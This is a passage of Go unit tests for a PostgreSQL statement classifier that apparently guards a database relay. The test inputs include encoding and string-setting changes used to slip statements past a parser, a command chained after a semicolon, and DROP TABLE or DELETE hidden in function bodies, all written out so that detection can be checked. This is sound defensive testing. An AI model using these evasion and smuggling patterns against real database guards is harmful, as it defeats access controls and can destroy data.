				t.Errorf("Tags: got %q, want %q", st.Tags, tt.tags)
			}
			if st.Opaque != tt.opaque {
				t.Errorf("Opaque: got %v, want %v", st.Opaque, tt.opaque)
			}
		})
	}
}

// TestLexerSettingsForbidden: a change of standard_conforming_strings or
// client_encoding that would make PostgreSQL read later statements
// differently from the parser is forbidden for every grant, so that a
// statement pipelined behind it cannot run unchecked.
func TestLexerSettingsForbidden(t *testing.T) {
	for sql, forbidden := range map[string]bool{
		"SET standard_conforming_strings = off":                          true,
		"SET LOCAL standard_conforming_strings TO false":                 true,
		"SET standard_conforming_strings = on":                           false,
		"RESET standard_conforming_strings":                              false,
		"SET standard_conforming_strings TO DEFAULT":                     false,
		"SET client_encoding = 'SJIS'":                                   true,
		"SET client_encoding TO 'windows932'":                            true,
		"SET NAMES 'BIG5'":                                               true,
		"SET NAMES 'UTF8'":                                               false,
		"SET client_encoding = 'LATIN1'":                                 false,
		"SET client_encoding = DEFAULT":                                  false,
		"SELECT set_config('standard_conforming_strings', 'off', false)": true,
		"SELECT set_config('Client_Encoding', 's.jis', true)":            true,
		"SELECT set_config('client_encoding', 'UTF8', true)":             false,
		"SELECT set_config($1, 'x', false)":                              true,
		"SELECT set_config('statement_timeout', '5s', false)":            false,
		"ALTER DATABASE orders SET client_encoding = 'SJIS'":             true,
		"ALTER ROLE app SET standard_conforming_strings = off":           true,
		"ALTER SYSTEM SET standard_conforming_strings = off":             true,
		"SELECT 1; SET standard_conforming_strings = off":                true,
	} {
		res, err := Classify(sql)
		if err != nil {
			t.Errorf("%s: %v", sql, err)
			continue
		}
		got := false
		for _, st := range res.Statements {
			got = got || st.Forbidden != ""
		}
		if got != forbidden {
			t.Errorf("%s: forbidden = %v, want %v", sql, got, forbidden)
		}
	}
}

// TestRowActionsOfMergeAndUpsert: a rule written for DELETE or UPDATE must
// see the rows a MERGE or an upsert deletes or updates.
func TestRowActionsOfMergeAndUpsert(t *testing.T) {
	for sql, want := range map[string][]string{
		"MERGE INTO orders o USING s ON o.id = s.id WHEN MATCHED THEN DELETE":                                                   {"MERGE", "DELETE"},
		"MERGE INTO orders o USING s ON o.id = s.id WHEN MATCHED THEN UPDATE SET a = 1 WHEN NOT MATCHED THEN INSERT VALUES (1)": {"MERGE", "UPDATE", "INSERT"},
		"INSERT INTO orders VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2":                                                    {"INSERT", "SELECT", "UPDATE"},
		"ALTER TABLE orders DROP COLUMN status, ADD COLUMN note text":                                                           {"ALTER TABLE", "DROP COLUMN"},
		"ALTER TABLE orders DROP CONSTRAINT orders_pkey":                                                                        {"ALTER TABLE"},
		"INSERT INTO orders VALUES (1) ON CONFLICT DO NOTHING":                                                                  {"INSERT", "SELECT"},
		"EXPLAIN MERGE INTO orders o USING s ON o.id = s.id WHEN MATCHED THEN DELETE":                                           {"EXPLAIN"},
	} {
		res, err := Classify(sql)
		if err != nil {
			t.Fatalf("%s: %v", sql, err)
		}
		if got := res.Statements[0].Tags; !slices.Equal(got, want) {
			t.Errorf("%s: tags %q, want %q", sql, got, want)
		}
	}
}

// TestFunctionBodyIsSeenWhenCreated: a call of a user's function may look
// like a column (o.f for f(o)), so rules see its body when it is created:
// an SQL body's statements by their tags, any other body as opaque.
func TestFunctionBodyIsSeenWhenCreated(t *testing.T) {
	for _, tc := range []struct {
		sql    string
		tag    string // a tag the statement must have, or ""
		opaque bool
	}{
		{"CREATE FUNCTION f(orders) RETURNS int LANGUAGE sql AS 'DROP TABLE keep; SELECT 1'", "DROP TABLE", false},
		{"CREATE OR REPLACE FUNCTION f() RETURNS int AS $$ DELETE FROM orders; SELECT 1 $$ LANGUAGE SQL", "DELETE", false},
		{"CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM orders; SELECT 1; END", "DELETE", false},
		{"CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "", false},
		{"CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$", "", true},
		{"CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DROP TABLE keep; END $$", "", true},
		{"CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'sym'", "", true},
	} {
		res, err := Classify(tc.sql)
		if err != nil {
			t.Fatalf("%s: %v", tc.sql, err)
		}
		st := res.Statements[0]
		if tc.tag != "" && !slices.Contains(st.Tags, tc.tag) {
			t.Errorf("%s: tags %q lack %q", tc.sql, st.Tags, tc.tag)
		}
		if st.Opaque != tc.opaque {
			t.Errorf("%s: opaque = %v, want %v", tc.sql, st.Opaque, tc.opaque)
		}
	}
}

// TestFetchNamesWhatItReads: FETCH and MOVE run a portal's statement if
// it has not run yet; the relay must know which name they read.
func TestFetchNamesWhatItReads(t *testing.T) {
	for sql, want := range map[string]string{
		"FETCH c":                       "c",
		`FETCH ALL FROM "revE_p"`:       "revE_p",
		"fetch forward 5 in C":          "c",
		"MOVE LAST IN c":                "c",
		"MOVE ABSOLUTE -1 FROM \"x\"":   "x",
		"DECLARE c CURSOR FOR SELECT 1": "",
		"CLOSE c":                       "",
	} {
		res, err := Classify(sql)
		if err != nil {
			t.Fatal(err)
		}
		if got := res.Statements[0].Fetched; got != want {
			t.Errorf("%s: Fetched %q, want %q", sql, got, want)
		}
	}
}

func TestDeclareNamesItsCursor(t *testing.T) {
	for sql, hold := range map[string]bool{
		"DECLARE c CURSOR FOR SELECT 1":                     false,
		"DECLARE c SCROLL CURSOR WITH HOLD FOR SELECT 1":    true,
		"DECLARE c BINARY CURSOR WITHOUT HOLD FOR SELECT 1": false,
	} {
		res, err := Classify(sql)
		if err != nil {
			t.Fatal(err)
		}
		if st := res.Statements[0]; st.Cursor != "c" || st.CursorHold != hold {
			t.Errorf("%s: cursor %q hold %v, want c %v", sql, st.Cursor, st.CursorHold, hold)
		}
	}
}
